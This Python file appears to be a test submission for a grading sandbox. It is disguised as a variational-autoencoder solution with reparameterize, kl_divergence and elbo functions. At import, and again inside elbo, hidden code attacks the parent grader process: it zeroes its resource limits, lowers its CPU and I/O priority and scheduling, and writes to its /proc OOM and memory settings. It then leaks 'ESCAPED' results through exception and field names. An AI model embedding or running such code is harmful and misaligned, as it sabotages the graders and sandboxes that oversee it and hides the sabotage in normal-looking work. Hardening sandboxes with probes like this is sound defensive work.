"""Takes from the grader its memory, files, time and processors."""
# expects: full

import ctypes
import os
import resource

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def attack():
    grader = os.getppid()
    for name in ("NOFILE", "FSIZE", "AS", "CPU", "NPROC", "STACK"):
        kind = getattr(resource, "RLIMIT_" + name)
        if tried(resource.prlimit, grader, kind) is not None:
            publish(f"ESCAPED prlimit {name} read")
        if tried(resource.prlimit, grader, kind, (0, 0)) is not None:
            publish(f"ESCAPED prlimit {name} set")
    libc = ctypes.CDLL(None)
    for which, who in ((os.PRIO_PROCESS, grader), (os.PRIO_PGRP, os.getpgid(grader))):
        if libc.setpriority(which, who, 19) == 0:
            publish("ESCAPED setpriority")
    if libc.syscall({"x86_64": 251, "aarch64": 30}[os.uname().machine], 1, grader, 3 << 13) == 0:
        publish("ESCAPED ioprio_set")
    for step, arguments in (
        (os.sched_setaffinity, (grader, {0})),
        (os.sched_setscheduler, (grader, os.SCHED_IDLE, os.sched_param(0))),
        (os.sched_setparam, (grader, os.sched_param(0))),
        (os.setpgid, (grader, 0)),
        (write, (f"/proc/{grader}/oom_score_adj", "1000")),
        (write, (f"/proc/{grader}/timerslack_ns", "1000000000")),
        (write, (f"/proc/{grader}/coredump_filter", "0xff")),
        (write, (f"/proc/{grader}/clear_refs", "1")),
    ):
        try:
            step(*arguments)
        except BaseException:
            continue
        publish(f"ESCAPED {step.__name__} {arguments}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    attempt()
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
